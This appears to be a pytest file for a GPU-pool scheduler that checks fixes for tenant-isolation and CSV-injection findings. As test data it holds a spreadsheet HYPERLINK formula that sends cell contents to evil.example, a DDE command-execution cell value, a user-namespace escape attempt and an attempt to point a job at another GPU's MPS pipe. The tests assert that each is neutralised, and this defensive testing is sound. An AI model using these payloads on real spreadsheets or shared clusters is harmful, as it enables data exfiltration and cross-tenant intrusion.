"""The smaller findings of the third hostile-tenant round (issue 42), each as it was tried: a
job named ``=HYPERLINK(...)`` was a live formula in ``gpupool acct --csv``; a job's own
``CUDA_MPS_PIPE_DIRECTORY`` reached its workload; jobs could create user namespaces;
``/var/tmp`` and ``/run/lock`` were shared and outlived the workload; empty cgroups stayed
after the agent stopped."""

import csv
import io
from pathlib import Path

import pytest

from gpupool.agent import cgroups
from gpupool.agent.workloads import IsolationConfig
from gpupool.server.invoice_documents import invoice_csv
from gpupool.server.settings import Settings
from gpupool.spreadsheet import safe_cell
from tests.support.agents import (  # noqa: F401 (the fixture kills leftover workloads)
    agent_thread,
    in_state,
    make_agent,
    no_workload_outlives_its_test,
    wait_for,
    wait_for_cards,
)
from tests.support.cli import gpupool
from tests.support.cluster import ok, submit
from tests.support.live import live_server
from tests.support.tenants import alpha_and_beta, job_log

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'


def test_csv_cells_never_start_a_formula():
    assert safe_cell(FORMULA) == "'" + FORMULA
    for cell in ("+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1"):
        assert safe_cell(cell).startswith("'")
    assert safe_cell("-100.00") == "-100.00" and safe_cell("train") == "train"
    line = {"description": FORMULA, "quantity": "1", "unit": "h", "unit_price": "2",
            "amount": "-100.00"}  # fmt: skip
    text = invoice_csv({"lines": [line], "total": "-100.00"})
    assert "'=HYPERLINK" in text and ",-100.00" in text


def test_acct_csv_shows_a_formula_name_as_text(tmp_path):
    with live_server(Settings(data_dir=tmp_path, log_json=False)) as srv:
        admin = srv.admin()
        ok(admin.post("/api/v1/tenants", json={"name": "algo"}), 201)
        ok(admin.post("/api/v1/nodes", json=_node()))
        job = submit(admin, "gpu=1", "algo", name=FORMULA)
        ok(admin.post(f"/api/v1/jobs/{job['id']}/cancel"))
        env = {"GPUPOOL_SERVER": srv.url, "GPUPOOL_TOKEN": srv.admin_token}
        out = gpupool("acct", "--csv", "-o", "id,name,state", env=env)
    rows = list(csv.reader(io.StringIO(out.stdout)))
    assert rows[1] == [str(job["id"]), "'" + FORMULA, "cancelled"], rows


def _node() -> dict:
    from tests.support.cluster import node_body

    return node_body("n1", cards=1)


def test_an_mps_pipe_of_the_jobs_own_choosing_is_refused(tmp_path):
    with live_server(Settings(data_dir=tmp_path, log_json=False)) as srv:
        admin = srv.admin()
        ok(admin.post("/api/v1/tenants", json={"name": "algo"}), 201)
        ok(admin.post("/api/v1/nodes", json=_node()))
        body = {"tenant": "algo", "request": "gpu=1", "command": ["true"],
                "env": {"CUDA_MPS_PIPE_DIRECTORY": "/var/lib/gpupool/mps/GPU-other"}}  # fmt: skip
        refused = admin.post("/api/v1/jobs", json=body)
    assert refused.status_code == 422
    assert refused.json()["detail"].startswith("env.CUDA_MPS_PIPE_DIRECTORY: set by gpupool")


def _root_agent(srv, tmp_path, work_root, **config):
    admin = alpha_and_beta(srv.admin(), 2)
    token = srv.token("agent-n1", "agent", node="n1")
    isolation = IsolationConfig(mode="tenant-users", user_prefix="gpt-", work_dir=work_root,
                                network=False, **config)  # fmt: skip
    return admin, make_agent(srv.url, token, "n1", tmp_path / "a", isolation=isolation)


_log = job_log


def _run(admin, tenant: str, command: list[str]) -> tuple[dict, str]:
    wait_for_cards(admin)
    job = submit(admin, "gpu=1", tenant, command=command)
    done = wait_for("end", in_state(admin, job["id"], "succeeded", "failed"), 40)
    return done, _log(admin, job["id"])


def _root_or_skip() -> None:
    from tests.support.agents import skip_module_unless_root

    skip_module_unless_root("needs root")


USERNS = "unshare -U true && echo made-a-user-namespace || echo refused"


def test_jobs_cannot_make_user_namespaces(tmp_path, work_root):
    _root_or_skip()
    settings = Settings(data_dir=tmp_path / "data", log_json=False, cycle_interval_s=0.2)
    with live_server(settings, run_scheduler=True) as srv:
        admin, agent = _root_agent(srv, tmp_path, work_root)
        with agent_thread(agent):
            done, text = _run(admin, "alpha", ["sh", "-c", USERNS])
    assert done["state"] == "succeeded", done["reason"]
    assert "refused" in text and "made-a-user-namespace" not in text, text
    assert "Operation not permitted" in text


LEAVE = "echo x > /var/tmp/left-by-alpha && echo y > /run/lock/left-by-alpha && echo wrote"
LOOK = "ls /var/tmp /run/lock"


def test_var_tmp_and_run_lock_are_private_and_gone_at_the_end(tmp_path, work_root):
    _root_or_skip()
    settings = Settings(data_dir=tmp_path / "data", log_json=False, cycle_interval_s=0.2)
    with live_server(settings, run_scheduler=True) as srv:
        admin, agent = _root_agent(srv, tmp_path, work_root)
        with agent_thread(agent):
            wrote, wrote_text = _run(admin, "alpha", ["sh", "-c", LEAVE])
            _, theirs = _run(admin, "beta", ["sh", "-c", LOOK])
    assert wrote["state"] == "succeeded" and "wrote" in wrote_text, (wrote, wrote_text)
    assert "left-by-alpha" not in theirs, theirs
    assert not Path("/var/tmp/left-by-alpha").exists()
    assert not Path("/run/lock/left-by-alpha").exists()


def test_an_agent_that_stops_its_workloads_leaves_no_cgroup_behind(tmp_path, work_root):
    _root_or_skip()
    settings = Settings(data_dir=tmp_path / "data", log_json=False, cycle_interval_s=0.2)
    with live_server(settings, run_scheduler=True) as srv:
        admin, agent = _root_agent(srv, tmp_path, work_root)
        agent.config.stop_workloads_on_exit = True  # as gpupool up's embedded agents
        if agent.launcher.cgroups.hierarchy.version is None:
            pytest.skip(f"no writable cgroups here: {agent.launcher.cgroups.hierarchy.note}")
        bases = agent.launcher.cgroups.hierarchy.bases.values()
        ours = [base / agent.launcher.cgroups.group for base in bases]
        with agent_thread(agent):
            _run(admin, "alpha", ["true"])
            running = submit(admin, "gpu=1", "beta", command=["sleep", "60"])
            wait_for("running", in_state(admin, running["id"], "running"), 30)
            during = [p.is_dir() for p in ours]
    assert all(during)
    assert not any(p.exists() for p in ours), [p for p in ours if p.exists()]
    assert cgroups.members(ours) == set()
